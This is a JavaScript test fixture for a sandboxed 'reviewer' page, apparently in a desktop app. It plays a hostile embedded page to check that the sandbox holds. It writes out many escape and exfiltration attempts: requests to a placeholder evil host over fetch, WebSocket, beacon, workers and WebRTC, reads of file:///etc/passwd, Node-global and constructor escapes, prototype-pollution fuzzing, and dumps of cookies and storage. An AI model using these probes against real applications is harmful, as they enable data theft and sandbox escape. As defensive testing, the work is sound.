// Page in the reviewer's place that tries to get out. The spec calls its parts by name: `hostile.NAME(…)`.
const received = []
const ports = []
let waiting = new Map()
let ids = 0

const ready = (doc) => window.postMessage({ type: 'reviewer:ready', version: 1, batch: true, doc }, location.origin)
const doc = `hostile-${performance.timeOrigin}-${Math.random()}`
const knock = setInterval(() => ready(doc), 250)

window.addEventListener('message', (event) => {
  if (event.data?.type !== 'reviewer:connect') return
  clearInterval(knock)
  const [port] = event.ports
  ports.push(port)
  port.onmessage = ({ data }) => {
    for (const message of Array.isArray(data) ? data : [data]) {
      if (received.length < 200_000) received.push(message)
      // A live reviewer answers; this one answers that it doesn't know the question.
      if (message?.type === 'request')
        port.postMessage({
          type: 'response',
          id: message.id,
          state: 'rejected',
          data: { code: 'unknown_action', message: '' },
        })
      if (message?.type === 'response') waiting.get(message.id)?.(message)
    }
  }
})
ready(doc)

const settle = async (attempt) => {
  try {
    const value = await Promise.race([
      attempt(),
      new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 3_000)),
    ])
    return `done: ${typeof value === 'object' ? Object.prototype.toString.call(value) : String(value)}`
  } catch (error) {
    return `${error?.name ?? typeof error}: ${error?.message ?? error}`
  }
}
const all = async (attempts) =>
  Object.fromEntries(
    await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => [name, await settle(attempt)])),
  )

const element = (tag, properties) =>
  new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(tag), properties)
    made.onload = () => resolve('loaded')
    made.onerror = () => reject(new Error('not loaded'))
    document.body.append(made)
    setTimeout(() => reject(new Error('nothing')), 1_500)
  })

const worker = (code) =>
  new Promise((resolve, reject) => {
    const made = new Worker(URL.createObjectURL(new Blob([code])))
    made.onmessage = ({ data }) => (data.startsWith('done') ? resolve(data) : reject(new Error(data)))
    made.onerror = () => reject(new Error('worker error'))
    setTimeout(() => reject(new Error('nothing')), 1_500)
  })

globalThis.hostile = {
  doc,
  received,
  ports: () => ports.length,

  request: (action, args = [], id = `h${++ids}`) =>
    new Promise((resolve) => {
      waiting.set(id, resolve)
      ports.at(-1).postMessage({ type: 'request', id, action, args })
      setTimeout(() => resolve({ state: 'none' }), 5_000)
    }),
  emit: (name, data) => ports.at(-1).postMessage({ type: 'event', name, data }),
  raw: (value) => ports.at(-1).postMessage(value),

  reach: async () => {
    // A call from outside may bypass the policy; code that runs later doesn't.
    await new Promise((done) => setTimeout(done))
    return {
      node: [
        'require',
        'process',
        'module',
        'exports',
        '__dirname',
        'Buffer',
        'global',
        'electron',
        'ipcRenderer',
        'desktop',
        'contextBridge',
        'webFrame',
      ].filter((name) => typeof globalThis[name] !== 'undefined'),
      parent: window.parent === window,
      opener: window.opener === null,
      topDocument: (() => {
        try {
          return typeof window.top.document.body.innerHTML
        } catch {
          return 'refused'
        }
      })(),
      topDesktop: (() => {
        try {
          return typeof window.top.desktop
        } catch {
          return 'refused'
        }
      })(),
      frameElement:
        (() => {
          try {
            return window.frameElement
          } catch {
            return null
          }
        })() === null,
      guestHost: (() => {
        const before = JSON.stringify([typeof globalThis.guestHost, globalThis.guestHost])
        const inner = globalThis.guestHost?.constructor?.constructor
        try {
          return {
            before,
            escaped: typeof inner?.('return typeof process')() === 'string' ? inner('return typeof process')() : 'none',
          }
        } catch (error) {
          return { before, escaped: error.name }
        }
      })(),
      evaluated: (() => {
        try {
          // biome-ignore lint/security/noGlobalEval: that it is refused is what is asked here.
          return (0, eval)('1 + 1')
        } catch (error) {
          return error.name
        }
      })(),
    }
  },

  network: (evil, except) => {
    const attempts = {
      fetch: () => fetch(`${evil}/fetch`, { mode: 'no-cors' }),
      keepalive: () => fetch(`${evil}/keepalive`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
      xhr: () =>
        new Promise((resolve, reject) => {
          const xhr = new XMLHttpRequest()
          xhr.open('GET', `${evil}/xhr`)
          xhr.onload = resolve
          xhr.onerror = () => reject(new Error('refused'))
          xhr.send()
        }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(evil.replace('http', 'ws'))
          socket.onopen = resolve
          socket.onerror = () => reject(new Error('refused'))
        }),
      beacon: () =>
        navigator.sendBeacon(`${evil}/beacon`, 'x')
          ? Promise.reject(new Error('queued'))
          : Promise.reject(new Error('refused')),
      events: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${evil}/events`)
          source.onopen = resolve
          source.onerror = () => (source.close(), reject(new Error('refused')))
        }),
      image: () => element('img', { src: `${evil}/image` }),
      script: () => element('script', { src: `${evil}/script.js` }),
      inline: () => {
        const made = document.createElement('script')
        made.textContent = 'globalThis.inlineRan = true'
        document.body.append(made)
        return globalThis.inlineRan ? Promise.resolve('ran') : Promise.reject(new Error('did not run'))
      },
      style: () => element('link', { rel: 'stylesheet', href: `${evil}/style.css` }),
      prefetch: () => element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
      preconnect: () => element('link', { rel: 'preconnect', href: evil }),
      prerender: () => element('link', { rel: 'prerender', href: `${evil}/prerender` }),
      modulepreload: () => element('link', { rel: 'modulepreload', href: `${evil}/module.js` }),
      manifest: () => element('link', { rel: 'manifest', href: `${evil}/manifest` }),
      icon: () => element('link', { rel: 'icon', href: `${evil}/icon.png` }),
      speculation: () => {
        const made = document.createElement('script')
        made.type = 'speculationrules'
        made.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${evil}/speculation`] }] })
        document.body.append(made)
        return Promise.reject(new Error('set'))
      },
      video: () => element('video', { src: `${evil}/video` }),
      object: () => element('object', { data: `${evil}/object` }),
      embed: () => element('embed', { src: `${evil}/embed` }),
      frame: () => element('iframe', { src: `${evil}/frame` }).then(() => Promise.reject(new Error('blocked page'))),
      font: () => new FontFace('evil', `url(${evil}/font)`).load(),
      background: () => {
        document.body.style.backgroundImage = `url(${evil}/background)`
        return Promise.reject(new Error('set'))
      },
      module: () => import(`${evil}/import.js`),
      worker: () =>
        worker(
          `fetch('${evil}/worker', { mode: 'no-cors' }).then(() => postMessage('done'), (e) => postMessage(e.name))`,
        ),
      imported: () =>
        worker(`try { importScripts('${evil}/imported.js'); postMessage('done') } catch (e) { postMessage(e.name) }`),
      sharedWorker: () =>
        new Promise((resolve, reject) => {
          const made = new SharedWorker(`${evil}/shared.js`)
          made.onerror = () => reject(new Error('refused'))
          setTimeout(() => reject(new Error('nothing')), 1_000)
        }),
      transport: () => new WebTransport(evil.replace('http', 'https')).ready,
      report: () => {
        new ReportingObserver(() => undefined).observe()
        return Promise.reject(new Error('set'))
      },
      rtc: async () => {
        const { host } = new URL(evil)
        const connection = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:${host}` },
            {
              urls: [`turn:${host}?transport=udp`, `turn:${host}?transport=tcp`],
              username: 'stolen',
              credential: 'stolen',
            },
          ],
        })
        connection.createDataChannel('out')
        await connection.setLocalDescription(await connection.createOffer())
        await new Promise((done) => setTimeout(done, 2_000))
        const found = (connection.localDescription?.sdp.match(/a=candidate/g) ?? []).length
        connection.close()
        throw new Error(`${found} candidates`)
      },
      shell: () => fetch('app://shell/index.html'),
      shellHere: () => fetch(location.href.replace(/\/\/reviewer/, '//shell')),
      file: () => fetch('file:///etc/passwd'),
      serviceWorker: () => navigator.serviceWorker.register('./hostile.js'),
      serviceWorkerOfBlob: () => navigator.serviceWorker.register(URL.createObjectURL(new Blob(['']))),
    }
    for (const name of except) delete attempts[name]
    return all(attempts)
  },

  /** Leaves in every way that a page has; the page must be the same afterwards. */
  leave: async (targets, evil) => {
    const form = document.getElementById('form')
    const link = document.getElementById('link')
    for (const target of targets) {
      const ways = [
        () => (location.href = target),
        () => location.replace(target),
        () => location.assign(target),
        () => ((link.href = target), link.click()),
        () => ((link.target = '_top'), link.click(), (link.target = '_parent'), link.click(), (link.target = '')),
        () => ((link.download = 'stolen.bin'), link.click(), link.removeAttribute('download')),
        () => ((link.ping = `${evil}/ping`), link.click(), link.removeAttribute('ping')),
        () => ((form.action = target), form.submit()),
        () => window.open(target, '_self'),
        () => (window.top.location.href = target),
        () => (document.getElementById('frame').src = target),
        () => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${target}">`),
        () => navigation.navigate(target),
      ]
      for (const way of ways) {
        try {
          way()
        } catch {}
        await new Promise((done) => setTimeout(done, 5))
      }
    }
    return 'still here'
  },

  popups: (evil, count) => {
    const targets = [
      evil,
      'javascript:alert(1)',
      'about:blank',
      'file:///etc/passwd',
      location.href,
      'app://shell/index.html',
      'data:text/html,x',
      '',
    ]
    let opened = 0
    for (let i = 0; i < count; i += 1) {
      try {
        if (window.open(targets[i % targets.length], `w${i}`, 'width=100,nodeIntegration=yes,webviewTag=yes') !== null)
          opened += 1
      } catch {}
    }
    return opened
  },

  permissions: async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'clipboard-read',
      'midi',
      'persistent-storage',
      'push',
      'screen-wake-lock',
      'display-capture',
      'idle-detection',
      'local-fonts',
      'window-management',
      'storage-access',
      'background-sync',
      'payment-handler',
      'nfc',
    ]
    const states = {}
    for (const name of names) {
      try {
        states[name] = (await navigator.permissions.query({ name, userVisibleOnly: true })).state
      } catch (error) {
        states[name] = error.name
      }
    }
    const asked = await all({
      camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }),
      where: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
      notify: async () => {
        const answer = await Notification.requestPermission()
        if (answer !== 'granted') throw new Error(answer)
        return answer
      },
      clipboard: () => navigator.clipboard.readText(),
      midi: () => navigator.requestMIDIAccess({ sysex: true }),
      usb: () => navigator.usb.requestDevice({ filters: [] }),
      serial: () => navigator.serial.requestPort(),
      hid: () =>
        navigator.hid
          .requestDevice({ filters: [] })
          .then((list) => (list.length === 0 ? Promise.reject(new Error('none')) : list)),
      bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
      files: () => window.showOpenFilePicker(),
      fonts: () =>
        window.queryLocalFonts().then((list) => (list.length === 0 ? Promise.reject(new Error('none')) : list)),
      idle: async () => {
        const answer = await IdleDetector.requestPermission()
        if (answer !== 'granted') throw new Error(answer)
        return answer
      },
      pointer: () => document.body.requestPointerLock(),
    })
    return { states, asked }
  },

  /** Posts messages that nearly follow the protocol, or not at all; the same for the same seed. */
  malformed: async (count, seed) => {
    let state = seed
    const random = (n) => {
      state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fff_ffff
      return state % n
    }
    const pick = (list) => list[random(list.length)]
    const cycle = {}
    cycle.self = cycle
    const polluted = JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}')
    const deep = Array.from({ length: 300 }).reduce((inner) => [inner], 0)
    const fixed = [
      null,
      undefined,
      0,
      -1,
      Number.NaN,
      1e308,
      2n ** 70n,
      '',
      '\ud800',
      true,
      {},
      [],
      [[]],
      cycle,
      polluted,
      deep,
      new Date(Number.NaN),
      /x/g,
      new Map([[1, cycle]]),
      new Set([1]),
      new Uint8Array(64),
      new ArrayBuffer(8),
      new Error('odd'),
      new Blob(['x']),
      '__proto__',
      'constructor',
      'toString',
      'then',
      { then: 1 },
      [polluted],
    ]
    const odd = () => (random(30) === 0 ? 'x'.repeat(random(5_000)) : pick(fixed))
    const types = [
      'request',
      'response',
      'abort',
      'stream',
      'event',
      'reviewer:connect',
      'constructor',
      '__proto__',
      'toString',
    ]
    const actions = [
      'getAssets',
      'switchToAsset',
      'changeAnnotationStatus',
      'requestAssets',
      'getTeamUsers',
      'currentUser',
      'workflowStatuses',
      'assetStream',
      'isAdvancedMode',
      'hasOwnProperty',
      '__proto__',
      'constructor',
      'nobodyKnows',
    ]
    const names = [
      'heartbeat',
      'activity',
      'analytics',
      'api_error',
      'activity_time_track',
      'get_time_tracker_status',
      '__proto__',
      'constructor',
      'offline',
      'nobodyKnows',
    ]
    const message = () => {
      const made = { type: pick(types), id: random(3) === 0 ? odd() : `m${random(50)}` }
      if (random(2) === 0) made.action = random(4) === 0 ? odd() : pick(actions)
      // Valid arguments are never among these, so the platform gets no real request.
      if (random(2) === 0) made.args = random(3) === 0 ? odd() : [odd(), odd(), odd(), odd()]
      if (random(2) === 0) made.name = random(4) === 0 ? odd() : pick(names)
      if (random(2) === 0) made.data = odd()
      if (random(2) === 0) made.state = pick(['fulfilled', 'rejected', odd()])
      if (random(2) === 0) made.item = pick(['read', 'cancel', 'message', 'error', odd()])
      if (random(3) === 0) made.count = odd()
      if (random(3) === 0) made.value = odd()
      return random(5) === 0 ? odd() : random(6) === 0 ? Object.assign(Object.create(null), made, polluted) : made
    }
    let refused = 0
    for (let sent = 0; sent < count; sent += 1) {
      try {
        ports.at(-1).postMessage(random(20) === 0 ? Array.from({ length: random(5) }, message) : message())
      } catch {
        refused += 1
      }
      // A person's reviewer never sends more than a few hundred a second; another test covers floods.
      if (sent % 100 === 0) await new Promise((done) => setTimeout(done, 100))
    }
    return { count, refused }
  },

  /** Keeps the page busy for a while, without messages. */
  spin: (ms) =>
    new Promise((resolve) => {
      const start = performance.now()
      const turn = () => {
        for (const end = performance.now() + 15; performance.now() < end; );
        if (performance.now() - start < ms) setTimeout(turn, 1)
        else resolve(null)
      }
      turn()
    }),

  /** Posts bursts for a while, at most `perSecond` messages a second; returns their number. */
  flood: (make, perSecond, ms) =>
    new Promise((resolve) => {
      const array = Array.from({ length: 20_000 }, () => ({ type: 'event', name: 'heartbeat', data: { at: 1 } }))
      const EVENTS = {
        heartbeat: { at: 1 },
        activity: { at: 1 },
        activity_time_track: { running: true },
        get_time_tracker_status: undefined,
        request_accesses: undefined,
        api_error: { action: 'pinAsset', status: 403, code: 'forbidden' },
        analytics: { name: 'flood', data: { a: 1 } },
        go_home: undefined,
      }
      const REQUESTS = { request: ['isAdvancedMode'], getAssets: ['getAssets', [0, 100, '']] }
      const [action, args = []] = REQUESTS[make] ?? []
      const made = make in EVENTS ? { type: 'event', name: make, data: EVENTS[make] } : { garbage: true }
      const start = performance.now()
      let sent = 0
      const burst = () => {
        const elapsed = performance.now() - start
        const due = Math.min((elapsed / 1_000) * perSecond, sent + 20_000)
        for (; sent < due; sent += 1) {
          if (make === 'array') {
            ports.at(-1)?.postMessage(array)
            sent += array.length
          } else if (make === 'ready') ready(`flood-${sent}`)
          else
            ports.at(-1)?.postMessage(action === undefined ? made : { type: 'request', id: `f${++ids}`, action, args })
        }
        if (elapsed < ms) setTimeout(burst, 1)
        else resolve(sent)
      }
      burst()
    }),

  seen: () => {
    const places = {
      cookie: () => document.cookie,
      local: () => ({ ...localStorage }),
      session: () => ({ ...sessionStorage }),
      entries: () => performance.getEntries().map((entry) => entry.name),
      globals: () => Object.getOwnPropertyNames(globalThis),
      page: () => document.documentElement.outerHTML,
      messages: () => received.slice(-5_000),
    }
    return Object.entries(places).map(([name, look]) => {
      try {
        return `${name}: ${JSON.stringify(look())}`
      } catch (error) {
        return `${name}: ${error.name}`
      }
    })
  },
}
